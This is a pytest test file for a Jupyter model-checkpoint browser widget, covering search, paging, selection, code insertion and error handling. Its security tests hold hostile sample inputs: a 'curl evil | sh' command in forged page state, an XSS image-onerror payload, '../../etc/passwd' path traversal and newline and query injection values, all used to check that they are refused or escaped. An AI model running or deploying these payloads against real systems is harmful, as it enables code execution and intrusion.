"""The browser's kernel side: querying, paging, selection, code, insert(), errors.

Runs against the real built-in zoo; no front end needed (ipywidgets falls back
to a dummy comm outside a kernel).
"""

from __future__ import annotations

import ast
import asyncio
import json

import pytest

import ckptzoo_widgets as cz
from ckptzoo_widgets.catalog import open_zoo
from ckptzoo_widgets.errors import ZooError
from ckptzoo_widgets.widget import ZooBrowser, browse
from ckptzoo_widgets.widget.magics import load_ipython_extension, parse_zoo_args, zoo_magic


@pytest.fixture(scope="module")
def zoo():
    return open_zoo(None)


@pytest.fixture
def browser(zoo):
    return ZooBrowser(zoo)


REF_MLP = "digits-mlp@epoch-2"


def ids(b):
    return [c["id"] for c in b.cards]


def test_opens_on_the_builtin_zoo(browser, zoo):
    assert browser.error == ""
    assert browser.total == 3
    assert sorted(ids(browser)) == ["digits-cnn", "digits-logreg", "digits-mlp"]
    assert [f["key"] for f in browser.filters] == ["task", "library", "license"]
    assert {
        "key": "val_accuracy",
        "label": "Best val accuracy",
        "direction": "desc",
        "value": "-val_accuracy",
    }.items() <= next(o for o in browser.sort_options if o["key"] == "val_accuracy").items()
    assert browser.page_version >= 1
    assert browser.loading is False


def test_cards_carry_what_a_card_shows_and_are_json(browser):
    card = next(c for c in browser.cards if c["id"] == "digits-mlp")
    for key in (
        "name",
        "task",
        "library",
        "license",
        "num_params",
        "headline_metric",
        "headline_value",
        "num_checkpoints",
    ):
        assert card[key] is not None, key
    assert card["num_checkpoints"] >= 2
    assert len(card["spark"]) == card["num_checkpoints"]
    xs = [p[0] for p in card["spark"]]
    assert xs == sorted(xs)
    json.dumps(browser.cards, allow_nan=False)  # what the comm sends


def test_query_filters_and_sort_run_in_the_kernel(browser, zoo):
    browser.query = "mlp"
    expected_q = list(zoo.search("mlp")["id"])
    assert "digits-mlp" in expected_q
    assert ids(browser) == expected_q and browser.total == len(expected_q)
    browser.query = ""
    browser.sort = "-val_accuracy"
    expected = list(zoo.search(sort="-val_accuracy")["id"])
    assert ids(browser) == expected
    assert all("sort_value" not in c for c in browser.cards)  # the headline metric: the card shows it
    browser.sort = "val_loss"
    assert all("sort_value" in c for c in browser.cards)
    browser.sort = "val_accuracy"
    assert ids(browser) == list(zoo.search(sort="val_accuracy")["id"])
    browser.task = "no-such-task"
    assert browser.cards == [] and browser.total == 0 and browser.error == ""
    browser.task = ""
    assert browser.total == 3


def test_paging_sends_only_the_visible_page(zoo):
    b = ZooBrowser(zoo, limit=2, sort="name")
    all_ids = list(zoo.search(sort="name")["id"])
    assert b.total == 3 and ids(b) == all_ids[:2]
    b.offset = 2
    assert ids(b) == all_ids[2:]
    # a narrower query resets to the first page
    b.query = "digits"
    assert b.offset == 0 and ids(b) == all_ids[:2]
    # past the end: the last page
    b.offset = 99
    assert b.offset == 2 and ids(b) == all_ids[2:]
    b.limit = 0
    assert b.limit == 1


def test_unknown_sort_key_shows_an_error_and_keeps_working(browser):
    browser.sort = "-no_such_metric"
    assert "no_such_metric" in browser.error
    assert "Traceback" not in browser.error
    assert browser.cards == []
    browser.sort = "-val_accuracy"
    assert browser.error == "" and browser.total == 3


def test_selecting_a_model_normalises_to_its_default_checkpoint(browser, zoo):
    browser.selected = "digits-mlp"
    entry = zoo.model("digits-mlp")
    default = entry.default_checkpoint or entry.checkpoints[-1].name
    assert browser.selected == f"digits-mlp@{default}"
    assert browser.detail["id"] == "digits-mlp"
    assert [c["name"] for c in browser.detail["checkpoints"]] == [c.name for c in entry.checkpoints]
    assert browser.code == zoo.load_code(browser.selected)
    assert browser.code_key == f"{browser.selected}#"
    assert browser.libraries == zoo.code_libraries(browser.selected)
    json.dumps(browser.detail, allow_nan=False)


def test_detail_has_card_metadata_and_checkpoint_facts(browser):
    browser.selected = "digits-mlp"
    d = browser.detail
    assert "<h1>" in d["card_html"] or "<p>" in d["card_html"]
    meta = dict((k, v) for k, v in d["metadata"])
    assert meta["id"] == "digits-mlp" and meta["num_params"] > 0
    ck = d["checkpoints"][-1]
    assert ck["size"] and ck["format"] and "val_accuracy" in ck["metrics"]
    assert isinstance(ck["step"], int) or ck["epoch"] is not None


def test_picking_checkpoints_changes_the_code(browser, zoo):
    names = [c.name for c in zoo.model("digits-mlp").checkpoints]
    early, late = names[1], names[-1]
    browser.selected = f"digits-mlp@{early}"
    code_early = browser.code
    assert code_early == zoo.load_code(f"digits-mlp@{early}")
    browser.selected = f"digits-mlp@{late}"
    assert browser.code == zoo.load_code(f"digits-mlp@{late}") != code_early
    ast.parse(browser.code)


def test_library_choice(browser, zoo):
    browser.selected = "digits-mlp"
    libs = browser.libraries
    assert len(libs) >= 2
    browser.code_library = libs[1]
    assert browser.code == zoo.load_code(browser.selected, library=libs[1])
    assert browser.code_key == f"{browser.selected}#{libs[1]}"
    browser.code_library = "not-a-library"
    assert browser.code_library == "" and browser.code == zoo.load_code(browser.selected)


def test_bad_selection_is_an_error_box_not_an_exception(browser):
    browser.selected = "digits-mlp@no-such-checkpoint"
    assert "no-such-checkpoint" in browser.error and browser.code == ""
    browser.selected = "no-such-model"
    assert "no-such-model" in browser.error
    browser.selected = "digits-cnn"
    assert browser.error == "" and browser.code


def test_errors_have_kinds_and_only_their_own_success_clears_them(browser):
    browser.selected = "digits-mlp@no-such-checkpoint"
    assert browser.error_kind == "select" and browser.error.startswith("Could not open 'digits-mlp@")
    # a search that works says nothing about the selection: its error stays (the old prefix
    # rule, startswith("Could not open"), took it for a failed opening of the zoo and cleared it)
    browser.search("mlp")
    assert browser.error_kind == "select" and "no-such-checkpoint" in browser.error
    browser.sort = "no_such_metric"
    assert browser.error_kind == "search" and browser.error.startswith("Search failed")
    browser.sort = ""
    assert browser.error == "" and browser.error_kind == ""
    browser._on_custom_msg(browser, {"request": "select", "ref": "../etc"}, [])
    assert browser.error_kind == "request"
    browser._on_custom_msg(browser, {"request": "select", "ref": "digits-cnn"}, [])
    assert browser.error == "" and browser.error_kind == "" and browser.code


def test_closing_clears_the_code(browser):
    browser.selected = "digits-cnn"
    browser.selected = ""
    assert browser.code == "" and browser.code_key == "" and browser.libraries == []


def test_select_and_search_from_python(browser, zoo):
    code = browser.select("digits-logreg@epoch-1")
    assert code == zoo.load_code("digits-logreg@epoch-1") and browser.selected == "digits-logreg@epoch-1"
    cards = browser.search("cnn")
    assert [c["id"] for c in cards] == list(zoo.search("cnn")["id"])
    with pytest.raises(ZooError):
        browser.select("digits-logreg@nope")
    with pytest.raises(TypeError):
        browser.search("x", colour="red")


class FakeShell:
    def __init__(self):
        self.calls = []

    def set_next_input(self, text, replace=False):
        self.calls.append((text, replace))


def test_insert_uses_set_next_input(browser, zoo, monkeypatch):
    shell = FakeShell()
    monkeypatch.setattr("IPython.get_ipython", lambda: shell)
    with pytest.raises(ZooError, match="Nothing selected"):
        browser.insert()
    browser.selected = "digits-mlp@epoch-1"
    assert browser.insert() is None  # no output under the cell
    assert shell.calls == [(zoo.load_code("digits-mlp@epoch-1"), False)]
    browser.insert("digits-cnn@epoch-2")
    assert shell.calls[-1][0] == zoo.load_code("digits-cnn@epoch-2")


def test_insert_outside_ipython_returns_the_code(browser, monkeypatch):
    monkeypatch.setattr("IPython.get_ipython", lambda: None)
    browser.selected = "digits-mlp"
    assert browser.insert() == browser.code


# ---- what a script in the page can send ------------------------------------


class PageComm:
    """Records what the kernel sends on the widget's comm."""

    def __init__(self, browser, monkeypatch):
        self.sent: list[dict] = []
        monkeypatch.setattr(browser.comm, "publish_msg", lambda _type, data=None, **kw: self.sent.append(data))

    def states(self) -> dict:
        out: dict = {}
        for data in self.sent:
            if data and data.get("method") == "update":
                out.update(data["state"])
        return out

    def replies(self) -> list:
        return [d["content"] for d in self.sent if d and d.get("method") == "custom"]


def page_update(browser, state: dict) -> None:
    """What `model.set(...); model.save_changes()` in the page delivers to the kernel."""
    browser._handle_msg({"content": {"data": {"method": "update", "state": state, "buffer_paths": []}}, "buffers": []})


def page_custom(browser, content, buffers=()) -> None:
    """What `model.send(content)` in the page delivers to the kernel."""
    browser._handle_msg({"content": {"data": {"method": "custom", "content": content}}, "buffers": list(buffers)})


def test_the_page_cannot_overwrite_kernel_state(browser, zoo, monkeypatch):
    comm = PageComm(browser, monkeypatch)
    browser.selected = REF_MLP
    kernel = {name: getattr(browser, name) for name in ("code", "detail", "cards", "_esm", "selected", "query")}
    forged = {
        "code": "import os\nos.system('curl evil | sh')\n",
        "detail": {"id": "x", "card_html": "<img src=x onerror=alert(1)>"},
        "cards": [{"id": "evil"}],
        "_esm": "export default { render() { alert(1) } }",
        "selected": "digits-cnn@epoch-1",
        "query": "zzz",
        "no_such_trait": 1,
    }
    page_update(browser, forged)
    for name, value in kernel.items():
        assert getattr(browser, name) == value, name
    # ... and the kernel sends its own values back, so the page's copy is right again
    sent = comm.states()
    assert sent["code"] == kernel["code"] and sent["selected"] == kernel["selected"]
    assert "no_such_trait" not in sent
    assert browser.rejected_updates == 1
    # insert() puts the kernel's code in the next cell, not the page's
    shell = FakeShell()
    monkeypatch.setattr("IPython.get_ipython", lambda: shell)
    browser.insert()
    assert shell.calls == [(zoo.load_code(REF_MLP), False)]


def test_page_requests_drive_the_search(browser, zoo, monkeypatch):
    comm = PageComm(browser, monkeypatch)
    page_custom(browser, {"request": "search", "seq": 1, "query": "mlp"})
    assert ids(browser) == list(zoo.search("mlp")["id"]) and browser.query == "mlp"
    page_custom(browser, {"request": "search", "seq": 2, "query": "", "sort": "-val_accuracy", "limit": 2})
    assert ids(browser) == list(zoo.search(sort="-val_accuracy")["id"])[:2]
    page_custom(browser, {"request": "search", "seq": 3, "offset": 2})
    assert browser.offset == 2 and len(browser.cards) == 1
    page_custom(browser, {"request": "select", "seq": 4, "ref": "digits-cnn"})
    assert browser.selected.startswith("digits-cnn@") and browser.code == zoo.load_code(browser.selected)
    lib = browser.libraries[1]
    page_custom(browser, {"request": "library", "seq": 5, "library": lib})
    assert browser.code == zoo.load_code(browser.selected, library=lib)
    page_custom(browser, {"request": "select", "seq": 6, "ref": ""})
    assert browser.selected == "" and browser.code == ""
    assert comm.replies() == [{"done": n} for n in range(1, 7)]
    assert browser.error == "" and browser.rejected_messages == 0


def test_searches_queued_while_the_kernel_is_busy_run_once_for_the_newest(browser, zoo, monkeypatch):
    """Typing on a large zoo: requests that arrive together become one search; each still gets its reply."""
    comm = PageComm(browser, monkeypatch)
    before = browser.page_version

    async def type_fast() -> None:
        # in a kernel, these are the messages read from the socket one after the other
        for seq, query in enumerate(["m", "ml", "mlp"], 1):
            page_custom(browser, {"request": "search", "seq": seq, "query": query})
        page_custom(browser, {"request": "search", "seq": 4, "offset": 1})
        assert browser.page_version == before and comm.replies() == []  # held for the queue to settle
        await asyncio.sleep(0.2)

    asyncio.run(type_fast())
    assert browser._searches.runs == 1 and browser.page_version == before + 1
    assert browser.query == "mlp" and browser.offset == 1
    assert ids(browser) == list(zoo.search("mlp")["id"])[1:]
    assert comm.replies() == [{"done": n} for n in (1, 2, 3, 4)]
    assert comm.states()["page_seq"] == 4  # the page shows this answer to request 4 only


def test_a_later_query_in_the_queue_drops_an_earlier_page_offset(browser, monkeypatch):
    PageComm(browser, monkeypatch)

    async def page_then_type() -> None:
        page_custom(browser, {"request": "search", "seq": 1, "query": "digits"})
        page_custom(browser, {"request": "search", "seq": 2, "offset": 2})
        page_custom(browser, {"request": "search", "seq": 3, "query": "mlp"})
        await asyncio.sleep(0.2)

    asyncio.run(page_then_type())
    assert browser._searches.runs == 1 and (browser.query, browser.offset) == ("mlp", 0)


HOSTILE_MESSAGES = [
    ("not an object", "search"),
    ("list", ["search"]),
    ("unknown kind", {"request": "eval", "code": "1"}),
    ("no kind", {"query": "x"}),
    ("unknown field", {"request": "search", "query": "x", "__proto__": 1}),
    ("code field", {"request": "select", "ref": "digits-mlp", "code": "evil()"}),
    ("query of 1 MB", {"request": "search", "query": "a" * 1_000_000}),
    ("query of 10 kB", {"request": "search", "query": "mlp " * 2500}),
    ("query as list", {"request": "search", "query": ["mlp"] * 1000}),
    ("query as dict", {"request": "search", "query": {"$gt": ""}}),
    ("nested deep", {"request": "search", "query": [[[[[[["x"]]]]]]]}),
    ("limit huge", {"request": "search", "limit": 10**9}),
    ("limit zero", {"request": "search", "limit": 0}),
    ("limit as bool", {"request": "search", "limit": True}),
    ("limit as float", {"request": "search", "limit": 24.5}),
    ("offset negative", {"request": "search", "offset": -1}),
    ("offset huge", {"request": "search", "offset": 10**30}),
    ("sort of 1 MB", {"request": "search", "sort": "-" + "x" * 1_000_000}),
    ("ref of 1 MB", {"request": "select", "ref": "digits-mlp@" + "e" * 1_000_000}),
    ("ref with path", {"request": "select", "ref": "../../etc/passwd"}),
    ("ref with html", {"request": "select", "ref": "<img src=x onerror=alert(1)>"}),
    ("ref with newline", {"request": "select", "ref": "digits-mlp\nimport os"}),
    ("unknown library", {"request": "library", "library": "os.system"}),
    ("insert with a ref", {"request": "insert", "handled": True, "ref": "x" * 1_000_000}),
    ("insert handled as text", {"request": "insert", "handled": "yes"}),
    ("seq as text", {"request": "search", "seq": "1", "query": "x"}),
    ("seq huge", {"request": "search", "seq": 10**100, "query": "x"}),
    ("many fields", {"request": "search", **{f"f{i}": i for i in range(1000)}}),
]


@pytest.mark.parametrize("name,content", HOSTILE_MESSAGES, ids=[n for n, _ in HOSTILE_MESSAGES])
def test_hostile_page_messages_are_refused(zoo, monkeypatch, name, content):
    b = ZooBrowser(zoo)
    b.selected = REF_MLP
    before = {k: getattr(b, k) for k in ("query", "sort", "limit", "offset", "selected", "code", "code_library")}
    searches: list = []
    real_search = zoo.search
    monkeypatch.setattr(b.zoo, "search", lambda *a, **k: searches.append(a) or real_search(*a, **k))
    page_custom(b, content)
    after = {k: getattr(b, k) for k in before}
    assert after == before
    assert searches == [], "a refused message starts no search"
    assert b.error.startswith("Ignored a request from the page"), b.error
    assert len(b.error) <= 400 and "\n" not in b.error
    assert b.rejected_messages == 1
    assert len(json.dumps(b.insert_events)) < 1000
    # ... and the widget keeps answering
    page_custom(b, {"request": "search", "query": "cnn"})
    assert b.error == "" and ids(b) == list(zoo.search("cnn")["id"])


def test_binary_buffers_are_refused(browser):
    page_custom(browser, {"request": "search", "query": "mlp"}, buffers=[b"x" * 1000])
    assert browser.query == "" and browser.rejected_messages == 1


def test_insert_reports_keep_the_kernels_reference_and_are_bounded(browser):
    browser.selected = REF_MLP
    for _ in range(500):
        page_custom(browser, {"request": "insert", "handled": True})
    assert len(browser.insert_events) == 100
    assert browser.insert_events[-1] == {"handled": True, "ref": REF_MLP}


def test_a_zoo_with_100k_bad_entries_shows_a_summary(tmp_path):
    models = [{"id": f"bad id {i}", "checkpoints": []} for i in range(100_000)]
    models.append({"id": "good", "checkpoints": [{"name": "final", "files": [{"path": "w.safetensors"}]}]})
    index = tmp_path / "index.json"
    index.write_text(json.dumps({"ckptzoo_index": 1, "models": models}))
    b = browse(str(index))
    assert b.error == "" and ids(b) == ["good"]
    assert len(b.zoo.errors) > 20  # the reader may summarise too
    assert len(b.warnings) <= 21 and "more" in b.warnings[-1]
    assert len(json.dumps(b.warnings)) < 20_000


def test_the_widget_caps_what_any_zoo_reports():
    big = MillionModelZoo()
    big.errors = [f"entry {i}: bad value {'x' * 10_000}" for i in range(200_000)]
    b = ZooBrowser(big)
    assert len(b.warnings) == 21
    assert b.warnings[-1] == "… and 199,980 more (browser.zoo.errors lists them all)"
    assert len(json.dumps(b.warnings)) < 20_000


def test_long_errors_are_one_bounded_line(zoo, monkeypatch):
    b = ZooBrowser(zoo)

    def broken(*a, **k):
        raise ZooError("bad metric " + "x" * 50_000_000 + "\nTraceback (most recent call last):")

    monkeypatch.setattr(b.zoo, "search", broken)
    b.query = "mlp"
    assert b.error.startswith("Search failed: bad metric") and len(b.error) <= 700
    assert "\n" not in b.error and "Traceback" not in b.error


def test_a_source_that_fails_to_open_shows_an_error(tmp_path):
    b = browse(str(tmp_path / "missing.json"))
    assert b.error.startswith("Could not open the zoo")
    assert "Traceback" not in b.error
    assert b.cards == [] and b.total == 0 and b.zoo is None
    b.query = "anything"  # still answers
    assert b.total == 0
    bad = tmp_path / "bad.json"
    bad.write_text("{ this is not json")
    assert browse(str(bad)).error
    # ... and recovers on a good source
    b.query = ""
    assert b.use_source("builtin") and b.error == "" and b.total == 3


def test_search_failure_inside_the_zoo_is_caught(zoo, monkeypatch):
    b = ZooBrowser(zoo)

    def broken(*a, **k):
        raise ConnectionError("network is unreachable\nlong details")

    monkeypatch.setattr(b.zoo, "search", broken)
    b.query = "mlp"
    assert b.error == "Search failed: ConnectionError: network is unreachable"
    assert b.loading is False
    monkeypatch.undo()
    b.query = "cnn"
    assert b.error == "" and ids(b) == list(zoo.search("cnn")["id"])


def test_browse_arguments_and_public_names(zoo):
    b = browse(zoo, "mlp", sort="-val_accuracy", selected="digits-mlp@epoch-1")
    assert b.query == "mlp" and b.sort == "-val_accuracy"
    assert ids(b) == list(zoo.search("mlp", sort="-val_accuracy")["id"])
    assert b.selected == "digits-mlp@epoch-1"
    assert browse().total == 3
    assert isinstance(cz.browse(zoo), ZooBrowser)  # the package's lazy re-export


def test_widget_assets_are_the_built_front_end():
    # Built by `npm run build` (scripts/test-all.sh runs it before the tests).
    text = ZooBrowser()._esm
    assert "ckptzoo:insert-code" in text and "not built" not in text


def test_zoo_magic_arguments():
    assert parse_zoo_args("") == {"source": None, "query": ""}
    assert parse_zoo_args("mlp digits") == {"source": None, "query": "mlp digits"}
    assert parse_zoo_args("--source runs/ --sort -val_accuracy cnn") == {
        "source": "runs/",
        "query": "cnn",
        "sort": "-val_accuracy",
    }
    assert parse_zoo_args("-s a.json -s builtin --task image-classification")["source"] == ["a.json", "builtin"]
    with pytest.raises(ValueError):
        parse_zoo_args("--bogus")
    with pytest.raises(ValueError):
        parse_zoo_args('"unclosed')


def test_zoo_magic_in_ipython():
    from IPython.core.error import UsageError
    from IPython.testing.globalipapp import get_ipython

    ip = get_ipython()
    load_ipython_extension(ip)
    b = ip.run_line_magic("zoo", "mlp")
    assert isinstance(b, ZooBrowser) and b.query == "mlp" and "digits-mlp" in ids(b)
    b = ip.run_line_magic("zoo", "--source /no/such/zoo.json")
    assert b.error.startswith("Could not open the zoo")
    with pytest.raises(UsageError):
        zoo_magic("--bogus")


class MillionModelZoo:
    """A stand-in zoo of a million models: search pages without building them all."""

    N = 1_000_000

    def __init__(self):
        self.calls = []
        self.errors = []

    def search(self, query="", *, task=None, library=None, license=None, sort=None, limit=50, offset=0):
        import pandas as pd

        self.calls.append((query, sort, limit, offset))
        stop = min(self.N, offset + limit)
        rows = [
            {
                "id": f"m{i:07d}",
                "name": f"Model {i}",
                "task": "image-classification",
                "library": "timm",
                "license": "mit",
                "num_params": 1000 + i,
                "headline_metric": "top1",
                "headline_value": (i % 1000) / 1000,
                "num_checkpoints": 1,
                "created": "2024-01-01",
                "source": "synthetic",
                "top1": (i % 1000) / 1000,
            }
            for i in range(offset, stop)
        ]
        df = pd.DataFrame(rows)
        df.attrs["total"] = self.N
        return df

    def sort_keys(self):
        return ["name", "num_params", "top1"]

    def facets(self):
        return {"task": ["image-classification"], "library": ["timm"], "license": ["mit"]}

    def model(self, model_id):
        raise KeyError(model_id)  # cards simply have no sparkline

    def code_libraries(self, ref):
        return ["timm"]

    def load_code(self, ref, library=None):
        return f"import timm\nmodel = timm.create_model({ref.split('@')[0]!r}, pretrained=True)\n"


def test_a_million_models_send_one_page():
    big = MillionModelZoo()
    b = ZooBrowser(big, sort="-top1")
    assert b.total == 1_000_000 and len(b.cards) == 24
    b.offset = 999_990
    assert [c["id"] for c in b.cards][0] == "m0999990" and len(b.cards) == 10
    assert all(limit == 24 for _, _, limit, _ in big.calls)
    assert len(json.dumps(b.cards)) < 20_000
    b.selected = "m0000001"
    assert b.error and b.code == ""  # the model lookup failed: an error box, not an exception


def test_no_match_suggests_close_ids(browser):
    browser.query = "digits-mpl"
    assert browser.total == 0 and "digits-mlp" in browser.suggestions
    browser.query = "mlp"
    assert browser.total >= 1 and browser.suggestions == []
    browser.query = "zzzzzzzz"
    assert browser.total == 0 and browser.suggestions == []


def test_cards_say_where_the_query_matched_when_the_catalog_does(browser, zoo):
    browser.query = "mlp"
    df = zoo.search("mlp")
    for card, row in zip(browser.cards, df.to_dict("records"), strict=True):
        assert card["match"] == row.get("match") and card["snippet"] == row.get("snippet")


def test_static_view_shows_the_page_and_the_selection_as_safe_html(zoo):
    b = ZooBrowser(zoo, query="digits")
    b.select(REF_MLP)
    view = b.static_view()
    assert set(view) == {"text/html", "text/plain"}
    html, text = view["text/html"], view["text/plain"]
    for model_id in ids(b):
        assert model_id in html and model_id in text
    assert REF_MLP in html and REF_MLP in text
    assert zoo.load_code(REF_MLP).strip().splitlines()[-1].replace('"', "&quot;") in html
    assert zoo.load_code(REF_MLP).strip() in text
    assert html.startswith('<div class="cz-static">')


def test_static_view_escapes_hostile_names(tmp_path):
    evil = "<img src=x onerror=alert(1)>"
    index = {
        "ckptzoo_index": 1,
        "models": [{"id": "evil", "name": evil, "task": evil, "checkpoints": [{"name": "final", "files": []}]}],
    }
    path = tmp_path / "index.json"
    path.write_text(json.dumps(index))
    html = browse(str(path)).static_view()["text/html"]
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_displaying_the_browser_also_displays_the_static_view_and_keeps_it_current(zoo, monkeypatch):
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance()
    published: list = []
    monkeypatch.setattr(
        shell.display_pub,
        "publish",
        lambda data, metadata=None, **kw: published.append((data, kw.get("transient"), kw.get("update"))),
    )
    b = ZooBrowser(zoo)
    shell.display_formatter.format(b)  # what the last expression of a cell does
    assert "application/vnd.jupyter.widget-view+json" in published[0][0]
    static, transient, _ = published[1]
    assert "text/html" in static and transient["display_id"].startswith("ckptzoo-static-")
    b.select(REF_MLP)
    data, transient2, update = published[-1]
    assert update and transient2 == transient and REF_MLP in data["text/plain"]
    n = len(published)
    b.select(REF_MLP)  # nothing changed: no update sent
    assert len(published) == n
